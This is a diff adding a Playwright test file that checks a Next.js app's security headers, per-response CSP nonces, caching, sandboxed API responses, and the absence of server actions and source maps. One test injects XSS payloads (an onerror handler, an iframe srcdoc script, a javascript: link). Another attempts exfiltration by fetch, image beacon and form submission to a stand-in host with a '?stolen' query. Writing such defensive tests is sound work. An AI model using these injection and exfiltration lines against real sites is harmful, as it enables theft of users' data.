@@ -1,0 +1,167 @@
+import { existsSync, readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import type { APIResponse } from "@playwright/test";
+import type { Company } from "@/contract/company";
+import { callApi } from "./support/api";
+import { expect, test } from "./support/test";
+
+const COMPANY_PAGES = ["overview", "key-figures", "comments", "presets", "fiscal-years", "import"];
+
+function nonceIn(response: APIResponse): string {
+  const policy = response.headers()["content-security-policy"] ?? "";
+  const scripts = policy.split("; ").find((directive) => directive.startsWith("script-src "));
+  expect(scripts).toMatch(/^script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}' 'strict-dynamic'$/);
+  expect(policy).toContain("default-src 'none'");
+  expect(policy).toContain("frame-ancestors 'none'");
+  return /'nonce-([^']+)'/.exec(scripts!)![1]!;
+}
+
+async function expectGuarded(response: APIResponse, path: string): Promise<void> {
+  const nonce = nonceIn(response);
+  expect(response.headers(), path).toMatchObject({
+    // Next words it at greater length for a page that is not there.
+    "cache-control": expect.stringMatching(/^private,.* no-store\b/),
+    "cross-origin-opener-policy": "same-origin",
+    "cross-origin-resource-policy": "same-origin",
+    "referrer-policy": "same-origin",
+    "x-content-type-options": "nosniff",
+    "x-frame-options": "DENY",
+  });
+  expect(response.headers()["permissions-policy"]).toContain("camera=()");
+  expect(response.headers()).not.toHaveProperty("x-powered-by");
+  expect(response.headers()).not.toHaveProperty("strict-transport-security");
+  const html = await response.text();
+  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
+  expect(scripts.length, `scripts of ${path}`).toBeGreaterThan(3);
+  expect(scripts.filter((script) => !script.includes(`nonce="${nonce}"`))).toEqual([]);
+  const tags = html.replace(/<script\b[^>]*>[\s\S]*?<\/script>/g, "").match(/<[a-z][^>]*>/gi) ?? [];
+  expect(tags.filter((tag) => /\son[a-z]+\s*=|\s(?:href|src)="javascript:/i.test(tag))).toEqual([]);
+}
+
+test("every page and every address without one says what a page may do, under a nonce of its own", async ({ page }) => {
+  const [company] = await callApi<Company[]>(page, "GET", "/Company");
+  const paths = [
+    "/agencies/demo/companies",
+    ...COMPANY_PAGES.map((name) => `/companies/${company!.id}/${name}`),
+    "/no/such/page",
+    "/no-such-picture.png",
+  ];
+  const nonces = new Set<string>();
+  for (const path of [...paths, paths[0]!]) {
+    const response = await page.request.get(path);
+    await expectGuarded(response, path);
+    nonces.add(nonceIn(response));
+  }
+  expect(nonces.size).toBe(paths.length + 1);
+});
+
+test("what a page fetches when it goes to another is not kept either", async ({ page }) => {
+  const response = await page.request.get("/agencies/demo/companies", { headers: { RSC: "1" } });
+  expect(response.headers()["content-type"]).toContain("text/x-component");
+  expect(response.headers()["cache-control"]).toBe("private, no-store");
+});
+
+test("an answer of the API that is opened as a page can do nothing", async ({ page }) => {
+  for (const path of ["/Api/v2/Me", "/api/health", "/api/auth/csrf"]) {
+    const headers = (await page.request.get(path, { headers: { "X-CSRF": "1" } })).headers();
+    expect(headers, path).toMatchObject({
+      "content-security-policy": "default-src 'none'; frame-ancestors 'none'; sandbox",
+      "x-content-type-options": "nosniff",
+      "cross-origin-resource-policy": "same-origin",
+    });
+    expect(headers["cache-control"], path).toMatch(/no-store|no-cache/);
+  }
+});
+
+test("behind a proxy that takes TLS off, the API and the scripts insist on https as well", async ({ page }) => {
+  const headers = { "X-CSRF": "1", "X-Forwarded-Proto": "https" };
+  const script = /\/_next\/static\/[^"]+\.js/.exec(
+    await (await page.request.get("/agencies/demo/companies")).text(),
+  )![0];
+  for (const path of ["/Api/v2/Me", script]) {
+    const response = await page.request.get(path, { headers });
+    expect(response.headers()["strict-transport-security"], path).toBe("max-age=63072000; includeSubDomains");
+  }
+});
+
+test.describe("code that somebody got into a page", () => {
+  test.use({ expectedConsole: [/Content Security Policy|status of 404/] });
+
+  test("does not run: not as a handler, not in a frame, not as an address", async ({ page }) => {
+    await page.goto("/agencies/demo/companies");
+    const ran = await page.evaluate(async () => {
+      const target = window as unknown as { ran?: string[] };
+      target.ran = [];
+      const holder = document.createElement("div");
+      holder.innerHTML = `
+        <img src="/no-such-picture.png" onerror="window.ran.push('handler')">
+        <iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
+        <a id="address" href="javascript:window.ran.push('address')">a</a>`;
+      document.body.append(holder);
+      document.getElementById("address")!.click();
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return target.ran;
+    });
+    expect(ran).toEqual([]);
+  });
+
+  test("cannot send what it has seen to another address", async ({ page }) => {
+    await page.goto("/agencies/demo/companies");
+    const blocked = await page.evaluate(
+      () =>
+        new Promise<string[]>((resolve) => {
+          const directives: string[] = [];
+          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+            directives.push(effectiveDirective);
+            if (directives.length === 3) resolve(directives.sort());
+          });
+          fetch("https://example.invalid/?stolen").catch(() => undefined);
+          const picture = new Image();
+          picture.src = "https://example.invalid/?stolen";
+          const form = Object.assign(document.createElement("form"), { action: "https://example.invalid/" });
+          document.body.append(form, picture);
+          form.submit();
+        }),
+    );
+    expect(blocked).toEqual(["connect-src", "form-action", "img-src"]);
+  });
+});
+
+test.describe("what the build leaves out", () => {
+  test("there are no server actions", async ({ page }) => {
+    const manifest = JSON.parse(readFileSync(".next/server/server-reference-manifest.json", "utf8")) as {
+      node: object;
+      edge: object;
+    };
+    expect({ node: manifest.node, edge: manifest.edge }).toEqual({ node: {}, edge: {} });
+    const sources = ["app", "components", "lib"].flatMap((folder) =>
+      readdirSync(folder, { recursive: true, encoding: "utf8" })
+        .filter((name) => /\.tsx?$/.test(name))
+        .map((name) => join(folder, name)),
+    );
+    expect(sources.length).toBeGreaterThan(100);
+    expect(sources.filter((file) => /^\s*["']use server["']/m.test(readFileSync(file, "utf8")))).toEqual([]);
+    const called = await page.request.post("/agencies/demo/companies", {
+      headers: { "Next-Action": "0".repeat(42), Accept: "text/x-component" },
+      data: "[]",
+    });
+    expect(called.status()).toBeGreaterThanOrEqual(400);
+    expect(called.headers()["content-type"]).not.toContain("text/x-component");
+  });
+
+  test("there is no optimiser of pictures, and no source map to read", async ({ page }) => {
+    const picture = await page.request.get("/_next/image?url=%2Ficon.svg&w=64&q=75");
+    expect(picture.ok()).toBe(false);
+    expect(existsSync(".next/static")).toBe(true);
+    const files = readdirSync(".next/static", { recursive: true, encoding: "utf8" });
+    expect(files.filter((name) => name.endsWith(".js")).length).toBeGreaterThan(20);
+    // Turbopack leaves an empty one behind.
+    const maps = files.filter((name) => name.endsWith(".map"));
+    const telling = maps.filter((name) => !/"sources":\s*\[\]/.test(readFileSync(join(".next/static", name), "utf8")));
+    expect(telling).toEqual([]);
+    const pointing = files.filter(
+      (name) => name.endsWith(".js") && readFileSync(join(".next/static", name), "utf8").includes("sourceMappingURL="),
+    );
+    expect(pointing).toEqual([]);
+  });
+});
